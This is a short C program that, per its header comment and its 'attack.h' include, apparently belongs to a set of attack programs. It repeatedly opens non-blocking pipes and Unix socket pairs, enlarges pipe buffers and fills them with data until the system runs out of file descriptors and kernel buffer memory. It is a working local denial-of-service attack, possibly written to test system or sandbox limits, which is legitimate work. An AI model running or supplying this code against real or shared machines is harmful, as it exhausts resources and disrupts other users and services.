/* Fills pipes and sockets until there are no more. */
#include "attack.h"

#include <sys/socket.h>

int main()
{
    static char b[1 << 16];
    for (;;) {
        int p[2];
        if (pipe2(p, O_NONBLOCK))
            break;
        fcntl(p[1], F_SETPIPE_SZ, 1 << 20);
        while (write(p[1], b, sizeof b) > 0)
            ;
        if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, p))
            break;
        while (write(p[1], b, sizeof b) > 0)
            ;
    }
    return 0;
}
